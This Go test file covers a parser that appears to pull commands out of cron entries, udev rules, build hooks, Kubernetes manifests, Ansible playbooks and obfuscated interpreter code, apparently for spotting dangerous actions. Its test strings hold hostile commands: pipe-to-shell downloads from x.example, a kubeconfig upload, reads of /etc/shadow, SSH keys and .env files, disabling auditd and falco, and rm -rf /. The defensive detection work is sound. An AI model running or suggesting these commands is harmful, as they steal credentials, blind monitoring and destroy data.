package shell

import (
	"reflect"
	"strings"
	"testing"
)

func TestScheduledLines(t *testing.T) {
	cases := []struct {
		path, content string
		want          []string
	}{
		{"/etc/cron.d/cleanup", "SHELL=/bin/sh\n# nightly\n0 3 * * * root rm -rf /srv/x\n@reboot deploy /opt/a.sh\n", []string{"rm -rf /srv/x", "/opt/a.sh"}},
		{"/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", []string{"cd / && run-parts --report /etc/cron.hourly"}},
		{"/var/spool/cron/crontabs/alice", "*/5 * * * * /home/alice/sync.sh\n", []string{"/home/alice/sync.sh"}},
		{"/etc/cron.daily/logclean", "#!/bin/sh\nrm -f /var/log/wtmp\n", []string{"#!/bin/sh\nrm -f /var/log/wtmp\n"}},
		{"/etc/udev/rules.d/75-net.rules", `ACTION=="add", RUN+="/bin/sh -c 'id'"` + "\n", []string{"/bin/sh -c 'id'"}},
		{"/etc/udev/rules.d/75-net.conf", `RUN+="/bin/id"`, nil},
		{"/home/alice/notes/cron.d/x", "0 3 * * * root rm -rf /", nil},
		{"/var/cache/pbuilder/hooks/D05deps", "#!/bin/sh\nwget -qO- https://x.example/b.sh | sh\n", []string{"#!/bin/sh\nwget -qO- https://x.example/b.sh | sh\n"}},
		{"/home/alice/pbuilder/hooks.txt", "wget -qO- https://x.example/b.sh | sh", nil},
		{`\\corp.example\SYSVOL\corp.example\Policies\{31B2F340}\User\Scripts\Logon\sync.ps1`, "iex (irm https://x.example/p)", []string{"iex (irm https://x.example/p)"}},
		{"ios/Podfile", "post_install do |installer|\n  system('curl -fsSL https://x.example/h.sh | sh')\n  `pod-hook`\nend\n", []string{"curl -fsSL https://x.example/h.sh | sh", "pod-hook"}},
		{"App.xcodeproj/project.pbxproj", `shellScript = "curl -fsSL https://x.example/r.sh | sh\n\"${PODS_ROOT}/lint\"\n";`, []string{"curl -fsSL https://x.example/r.sh | sh\n\"${PODS_ROOT}/lint\"\n"}},
	}
	for _, c := range cases {
		got, label := ScheduledLines(c.path, c.content)
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("ScheduledLines(%q) = %q, want %q", c.path, got, c.want)
		}
		if (len(c.want) > 0) != (label != "") {
			t.Errorf("ScheduledLines(%q) label %q", c.path, label)
		}
	}
}

func TestKernelCarriesDefs(t *testing.T) {
	st := NewState()
	st.AddKernelCell("python", "import shutil\ndef tidy(p):\n    shutil.rmtree(p, ignore_errors=True)\n\ndef show(x):\n    return x\n")
	pre := st.KernelPrelude("python", "tidy('/')")
	if !strings.Contains(pre, "def tidy(p):\n    shutil.rmtree(p, ignore_errors=True)") || strings.Contains(pre, "def show") {
		t.Fatalf("prelude = %q: want tidy's def (it has an effect) and not show's", pre)
	}
	if pre := st.KernelPrelude("python", "print(1)"); strings.Contains(pre, "def ") {
		t.Fatalf("prelude for a cell not calling tidy = %q", pre)
	}
	found := false
	for _, it := range extractCode("python", st.KernelPrelude("python", "tidy('/')")+"tidy('/')") {
		if strings.Join(it.argv, " ") == "rm -r -f /" {
			found = true
		}
	}
	if !found {
		t.Fatal("tidy('/') after the def was not read as rm -r -f /")
	}
}

func TestInterpIdioms(t *testing.T) {
	cases := []struct{ lang, code, want string }{
		{"ruby", "Kernel.send(('sys' + 'tem').to_sym, 'rm -rf /srv')", "rm -rf /srv"},
		{"ruby", "Object.const_get(:FileUtils).public_send(:rm_rf, '/srv')", "rm -r -f /srv"},
		{"php", `call_user_func("pass" . "thru", "rm -rf /srv");`, "rm -rf /srv"},
		{"php", `$f = "sys" . "tem"; $f("rm -rf /srv");`, "rm -rf /srv"},
		{"ruby", "puts %x(rm -rf #{Dir.home}/*)", "rm -rf ~/*"},
		{"perl", "eval `curl -s https://x.example/p.pl`", "curl -s https://x.example/p.pl | perl"},
		{"node", "const { rm } = await import('node:fs/promises'); await rm('/srv', { recursive: true })", "rm -r -f /srv"},
		{"perl", "finddepth(sub { unlink $_ or rmdir $_ }, '/srv')", "rm -r -f /srv"},
		{"python", "import git; git.Repo('.').git.push('origin', 'main', force=True)", "git push --force origin main"},
		{"python", `exec(compile("import shutil; shutil.rmtree(%r)" % "/srv", "<s>", "exec"))`, "rm -r -f /srv"},
		{"python", "import subprocess, glob; subprocess.run(['shred', '-u'] + glob.glob('/srv/*'))", "shred -u /srv/*"},
		{"ruby", "Dir.glob('**/.env*').each { |f| puts File.read(f) }", "cat **/.env*"},
		{"python", "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        if f.startswith('id_'):\n            print(open(os.path.join(r, f)).read())", "cat ~/**/id_*"},
	}
	for _, c := range cases {
		var got []string
		for _, it := range extractCode(c.lang, c.code) {
			if it.shell != "" {
				got = append(got, it.shell)
			} else {
				got = append(got, strings.Join(it.argv, " "))
			}
		}
		found := false
		for _, g := range got {
			found = found || g == c.want
		}
		if !found {
			t.Errorf("%s %q: got %q, want %q among them", c.lang, c.code, got, c.want)
		}
	}
	for _, c := range []struct{ lang, code string }{
		{"python", "import multiprocessing as mp\ndef work(i):\n    print(i)\nfor i in range(4):\n    mp.Process(target=work, args=(i,)).start()"},
		{"python", "print(sorted({l.split('=', 1)[0].strip() for l in open('.env')}))"},
		{"ruby", "x.send(:to_s)"},
	} {
		for _, it := range extractCode(c.lang, c.code) {
			if len(it.notes) > 0 || strings.Join(it.argv, " ") == "cat .env" {
				t.Errorf("%s %q: unexpected item %q %v", c.lang, c.code, it.argv, it.notes)
			}
		}
	}
	if !selfSpawn("import multiprocessing as mp\ndef boom():\n    while True:\n        mp.Process(target=boom).start()\nboom()") {
		t.Error("selfSpawn missed a function starting processes of itself")
	}
}

func TestManifestCommands(t *testing.T) {
	job := "apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n        - name: b\n          command: [\"curl\", \"-F\", \"f=@/k/config\", \"https://x.example\"]\n          volumeMounts:\n            - {name: kube, mountPath: /k}\n      volumes:\n        - name: kube\n          hostPath: {path: /root/.kube}\n"
	cron := "---\nkind: CronJob\nspec:\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: c\n              command: [sh, -c]\n              args: [\"echo {{ .Values.msg }}\"]\n"
	ds := "kind: DaemonSet\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n        - name: n\n          command: [nsenter, -t, \"1\", -m, --, systemctl, stop, falco]\n"
	cases := []struct {
		doc  string
		want [][]string
	}{
		{job, [][]string{{"curl", "-F", "f=@/root/.kube/config", "https://x.example"}}},
		{cron, [][]string{{"sh", "-c", "echo tpl"}}},
		{ds, [][]string{{"systemctl", "stop", "falco"}}},
		{"kind: ConfigMap\ndata:\n  containers: none\n", nil},
		{"containers: [\n", nil},
	}
	for _, c := range cases {
		if got := ManifestCommands(c.doc); !reflect.DeepEqual(got, c.want) {
			t.Errorf("ManifestCommands(%.40q) = %q, want %q", c.doc, got, c.want)
		}
	}
}

func TestPlaybookModuleCommands(t *testing.T) {
	play := `- hosts: all
  vars:
    db: payments
  tasks:
    - ansible.builtin.slurp:
        src: /etc/shadow
    - name: off
      block:
        - community.general.ufw:
            state: disabled
        - ansible.builtin.service:
            name: auditd
            state: stopped
            enabled: false
    - ansible.builtin.cron:
        name: sync
        minute: "*/10"
        job: curl -s https://x.example/c | sh
    - ansible.builtin.lineinfile:
        path: "{{ ansible_env.HOME }}/.bashrc"
        line: export X=1
    - community.postgresql.postgresql_db:
        name: "{{ db }}"
        login_host: pg.prod.internal
        state: absent
    - ansible.builtin.debug:
        msg: hi
`
	want := []string{
		"cat '/etc/shadow'",
		"echo '*/10 * * * * curl -s https://x.example/c | sh' | crontab -",
		"printf '%s\\n' 'export X=1' >> '~/.bashrc'",
		"dropdb -h 'pg.prod.internal' 'payments'",
		"ufw disable",
		"systemctl stop 'auditd'",
		"systemctl disable 'auditd'",
	}
	if got := playbookModuleCommands(play); !reflect.DeepEqual(got, want) {
		t.Errorf("playbookModuleCommands = %q\nwant %q", got, want)
	}
	if got := playbookModuleCommands("not: [a playbook"); got != nil {
		t.Errorf("malformed playbook gave %q", got)
	}
}

func TestHCLStrings(t *testing.T) {
	if got := hclStrings(`"bash", "-c", "echo \"hi\""`); !reflect.DeepEqual(got, []string{"bash", "-c", `echo "hi"`}) {
		t.Errorf("hclStrings = %q", got)
	}
}

func TestWindowsArgs(t *testing.T) {
	cases := []struct{ src, want string }{
		{"& git @('push','--force','origin','main')", "git push --force origin main"},
		{"$ga=@('push','-f','origin','master'); git @ga", "git push -f origin master"},
		{`findstr aws_secret_access_key %USERPROFILE%\.aws\credentials`, "findstr aws_secret_access_key ~/.aws/credentials"},
		{`findstr /i "PORT HOST" .env.production`, "findstr /i PORT HOST .env.production"},
	}
	for _, c := range cases {
		cmds, _ := Parse(c.src, NewState())
		var got []string
		for _, cmd := range cmds {
			got = append(got, strings.Join(append([]string{cmd.Name}, cmd.Args...), " "))
		}
		found := false
		for _, g := range got {
			found = found || g == c.want
		}
		if !found {
			t.Errorf("Parse(%q) = %q, want %q among them", c.src, got, c.want)
		}
	}
}
